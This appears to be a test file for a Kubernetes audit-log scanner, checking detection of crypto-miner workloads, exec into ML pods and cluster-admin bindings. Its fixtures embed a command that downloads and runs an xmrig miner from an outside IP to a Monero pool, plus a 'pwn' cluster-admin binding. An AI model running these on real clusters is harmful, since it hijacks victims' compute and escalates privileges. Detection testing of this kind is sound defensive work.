import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import yaml from 'js-yaml';
import { leanParse } from '../../src/audit/read/lean-parse.js';
import { requiresShared, sharedAvailable, sharedPath } from '../../src/testing/shared.js';
import { runCli } from '../helpers/cli.js';
import { auditEvent, jsonLines } from './events.js';

// Objects created with `generateName` (KFP v2 runs, ReplicaSet, Job and KubeRay worker pods): the
// request names none and the API server logs none in objectRef; the name it chose is only in the
// stored copy, the responseObject. Findings, the timeline and the pod-role index must use it.

const dir = mkdtempSync(join(tmpdir(), 'kfguard-genname-'));
after(() => rmSync(dir, { recursive: true, force: true }));
let files = 0;
const writeLog = (events: readonly unknown[]): string => {
  const file = join(dir, `audit-${files++}.log`);
  writeFileSync(file, jsonLines(events));
  return file;
};

interface Report {
  findings: { ruleId: string; severity: string; message: string; resource: { name: string }; evidence: string[]; fingerprint: string }[];
  extensions: { auditTimeline: { actor: string; entries: { object: string; outcome?: string; code?: number; findings: string[] }[] }[] };
}
const json = async (file: string, ...flags: string[]): Promise<Report> => JSON.parse((await runCli(['audit', file, '--format', 'json', ...flags])).stdout) as Report;

const KFP = 'system:serviceaccount:kubeflow:ml-pipeline';

/** KFP's v2 backend's own Workflow for hello_world (generateName `echo-`), its step made a miner. */
function v2MinerWorkflow(): Record<string, unknown> {
  const workflow = yaml.load(readFileSync(sharedPath('schemas', 'kfp-api', 'argo-workflow-v2-backend', 'hello_world.yaml'), 'utf8')) as { metadata: Record<string, unknown>; spec: { arguments: { parameters: { name: string; value: string }[] } } };
  const impl = workflow.spec.arguments.parameters.find((p) => p.name.startsWith('implementations-'));
  assert.ok(impl, 'the sample has an implementations parameter');
  impl.value = JSON.stringify({ args: ['/tmp/dns-filter -o pool.supportxmr.com:443 --cpu-max-threads-hint 60'], command: ['sh', '-c'], image: 'registry.access.redhat.com/ubi9/python-311:latest' });
  assert.equal(workflow.metadata.name, undefined);
  assert.equal(workflow.metadata.generateName, 'echo-');
  workflow.metadata.namespace = 'kubeflow-user';
  return workflow as unknown as Record<string, unknown>;
}

const stored = (object: Record<string, unknown>, name: string): Record<string, unknown> => ({ ...object, metadata: { ...(object.metadata as Record<string, unknown>), name, uid: '5f1c-1' } });

const workflowCreate = (requestObject: Record<string, unknown>, responseObject?: Record<string, unknown>): Record<string, unknown> =>
  auditEvent({ verb: 'create', user: KFP, resource: 'workflows', apiGroup: 'argoproj.io', apiVersion: 'v1alpha1', namespace: 'kubeflow-user', requestObject, ...(responseObject ? { responseObject } : {}), auditID: 'v2-run' });

describe('objects created with generateName', () => {
  test('the v2 backend sample: the finding and the timeline name the Workflow the API server created', requiresShared(), async () => {
    if (!sharedAvailable) return;
    const sent = v2MinerWorkflow();
    const event = workflowCreate(sent, stored(sent, 'echo-x7k2p'));
    // The line takes the lean parse (the stored copy is parsed for its name only), not the whole one.
    assert.notEqual(leanParse(JSON.stringify(event)), undefined);
    const report = await json(writeLog([event]));
    const miner = report.findings.find((f) => f.ruleId === 'crypto-miner-workload');
    assert.equal(miner?.resource.name, 'echo-x7k2p');
    assert.match(miner?.message ?? '', /Workflow kubeflow-user\/echo-x7k2p runs a crypto miner/);
    assert.equal(miner?.severity, 'critical');
    const entry = report.extensions.auditTimeline[0]?.entries[0];
    assert.equal(entry?.object, 'workflows kubeflow-user/echo-x7k2p');
    assert.equal(entry?.outcome, undefined);
  });

  test('logged without the stored copy (Request level): named by the prefix, and the finding says why', requiresShared(), async () => {
    if (!sharedAvailable) return;
    const report = await json(writeLog([workflowCreate(v2MinerWorkflow())]));
    const miner = report.findings.find((f) => f.ruleId === 'crypto-miner-workload');
    assert.equal(miner?.resource.name, 'echo-');
    assert.match(miner?.evidence.join('\n') ?? '', /created by generateName "echo-": the log holds no stored copy/);
    assert.equal(report.extensions.auditTimeline[0]?.entries[0]?.object, 'workflows kubeflow-user/echo-…');
  });

  test('no stored copy, but an objectRef that names the object: that name is used, and no note', async () => {
    const pod = { ...minerPod('x'), metadata: { generateName: 'job-', namespace: 'ns1' } };
    const report = await json(writeLog([auditEvent({ verb: 'create', resource: 'pods', namespace: 'ns1', name: 'job-q7z2k', requestObject: pod })]));
    const miner = report.findings.find((f) => f.ruleId === 'crypto-miner-workload');
    assert.equal(miner?.resource.name, 'job-q7z2k');
    assert.doesNotMatch(miner?.evidence.join('\n') ?? '', /generateName/);
  });

  test('a Workflow created by generateName, then patched by its real name: the patch is applied to it', async () => {
    const sent = { apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata: { generateName: 'train-', namespace: 'ns1' }, spec: { entrypoint: 'main', templates: [{ name: 'main', container: { image: 'python:3.11', command: ['python', '-c', 'print(1)'] } }] } };
    const events = [
      auditEvent({ verb: 'create', resource: 'workflows', apiGroup: 'argoproj.io', apiVersion: 'v1alpha1', namespace: 'ns1', requestObject: sent, responseObject: stored(sent, 'train-z9k2m') }),
      auditEvent({ verb: 'patch', resource: 'workflows', apiGroup: 'argoproj.io', apiVersion: 'v1alpha1', namespace: 'ns1', name: 'train-z9k2m', requestObject: [{ op: 'replace', path: '/spec/templates/0/container/command', value: ['sh', '-c', 'wget -q http://198.51.100.9/x/xmrig -O /tmp/x && /tmp/x -o stratum+tcp://pool.supportxmr.com:443'] }] }),
    ];
    const miner = (await json(writeLog(events))).findings.find((f) => f.ruleId === 'crypto-miner-workload');
    assert.equal(miner?.resource.name, 'train-z9k2m');
    assert.doesNotMatch(miner?.evidence.join('\n') ?? '', /patch body alone/);
  });

  test('a KubeRay worker pod created by generateName, then exec into by its real name: its creation is found', async () => {
    const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { generateName: 'raycluster-kuberay-worker-', namespace: 'ray', labels: { 'ray.io/node-type': 'worker', 'ray.io/cluster': 'raycluster-kuberay' } }, spec: { containers: [{ name: 'ray-worker', image: 'rayproject/ray:2.9.0' }] } };
    const events = [
      auditEvent({ verb: 'create', user: 'system:serviceaccount:ray-system:kuberay-operator', resource: 'pods', namespace: 'ray', requestObject: pod, responseObject: stored(pod, 'raycluster-kuberay-worker-abcde'), at: '2026-01-05T09:00:00.000000Z' }),
      auditEvent({ verb: 'create', user: 'bob', resource: 'pods', subresource: 'exec', namespace: 'ray', name: 'raycluster-kuberay-worker-abcde', requestURI: '/api/v1/namespaces/ray/pods/raycluster-kuberay-worker-abcde/exec?command=sh', code: 101 }),
    ];
    const exec = (await json(writeLog(events))).findings.find((f) => f.ruleId === 'audit-exec-into-ml-pod');
    // From the log's own record of the pod (high), not guessed from its name (medium, "not in the log").
    assert.equal(exec?.severity, 'high');
    assert.doesNotMatch(exec?.message ?? '', /not in the log/);
    assert.match(exec?.message ?? '', /ray pod raycluster-kuberay-worker-abcde/);
  });

  test('a ReplicaSet pod named only by the API server: an exec into it is found by its recorded notebook role', async () => {
    // A name podRoleFromName does not read: only the recorded creation can say it is a notebook.
    const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { generateName: 'lab-7d9f8c6b5-', namespace: 'team-a', labels: { 'notebook-name': 'lab' } }, spec: { containers: [{ name: 'lab', image: 'kubeflownotebookswg/jupyter-scipy:v1.8.0' }] } };
    const events = [
      auditEvent({ verb: 'create', user: 'system:serviceaccount:kube-system:replicaset-controller', resource: 'pods', namespace: 'team-a', requestObject: pod, responseObject: stored(pod, 'lab-7d9f8c6b5-q2x8w') }),
      auditEvent({ verb: 'create', user: 'bob', resource: 'pods', subresource: 'exec', namespace: 'team-a', name: 'lab-7d9f8c6b5-q2x8w', code: 101 }),
    ];
    const exec = (await json(writeLog(events))).findings.find((f) => f.ruleId === 'audit-exec-into-ml-pod');
    assert.equal(exec?.severity, 'high');
    assert.match(exec?.message ?? '', /notebook pod/);
  });
});

const minerPod = (name: string): Record<string, unknown> => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name, namespace: 'ns1' },
  spec: { containers: [{ name: 'main', image: 'alpine:3.19', command: ['sh', '-c', 'wget -q http://198.51.100.9/x/xmrig -O /tmp/x && /tmp/x -o stratum+tcp://pool.supportxmr.com:443'] }] },
});
const podCreate = (name: string, code: number, auditID: string): Record<string, unknown> => auditEvent({ verb: 'create', resource: 'pods', namespace: 'ns1', name, requestObject: minerPod(name), code, auditID });

describe('requests that did not succeed', () => {
  test('a denied miner create: an attempt finding one severity lower, and the timeline says 403 denied', async () => {
    const file = writeLog([podCreate('p2', 403, 'denied-1'), podCreate('p2', 201, 'created-1')]);
    const report = await json(file);
    const miners = report.findings.filter((f) => f.ruleId === 'crypto-miner-workload');
    assert.equal(miners.length, 2);
    const [attempt, created] = [miners.find((f) => /^Attempt refused/.test(f.message)), miners.find((f) => !/^Attempt/.test(f.message))];
    assert.equal(created?.severity, 'critical');
    assert.equal(attempt?.severity, 'high');
    assert.match(attempt?.message ?? '', /^Attempt refused \(403 denied\): Pod ns1\/p2 runs a crypto miner/);
    assert.match(attempt?.evidence.join('\n') ?? '', /nothing was created or changed/);
    assert.notEqual(attempt?.fingerprint, created?.fingerprint);
    const entries = report.extensions.auditTimeline[0]?.entries ?? [];
    assert.deepEqual(
      entries.map((e) => [e.object, e.outcome, e.code, e.findings]),
      [
        ['pods ns1/p2', '403 denied', 403, ['crypto-miner-workload']],
        ['pods ns1/p2', undefined, undefined, ['crypto-miner-workload']],
      ],
    );
    const text = (await runCli(['audit', file, '--no-color'])).stdout;
    assert.match(text, /create pods ns1\/p2 → 403 denied {2}◀ crypto-miner-workload/);
    assert.match(text, /HIGH {2}crypto-miner-workload {2}Pod ns1\/p2/);
    const html = (await runCli(['audit', file, '--format', 'html'])).stdout;
    assert.match(html, /create pods ns1\/p2<span class="outcome">→ 403 denied<\/span>/);
  });

  test('a failed (5xx) miner create keeps its severity: the object may be stored', async () => {
    const report = await json(writeLog([podCreate('p3', 504, 'timeout-1')]));
    const miner = report.findings.find((f) => f.ruleId === 'crypto-miner-workload');
    assert.equal(miner?.severity, 'critical');
    assert.match(miner?.message ?? '', /^Request failed \(504 failed\), the object may be stored/);
    assert.equal(report.extensions.auditTimeline[0]?.entries[0]?.outcome, '504 failed');
  });

  test('a denied request still triggers no detection on what it would have done', async () => {
    const binding = { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'pwn' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'mallory' }] };
    const events = [
      auditEvent({ verb: 'create', resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io', name: 'pwn', requestObject: binding, code: 403 }),
      auditEvent({ verb: 'create', resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io', name: 'pwn', requestObject: binding, code: 201 }),
    ];
    const report = await json(writeLog(events));
    assert.equal(report.findings.filter((f) => f.ruleId === 'audit-cluster-admin-binding').length, 1);
    // The denied try is in the actor's timeline, marked as such.
    assert.deepEqual(report.extensions.auditTimeline[0]?.entries.map((e) => e.outcome), ['403 denied', undefined]);
  });
});
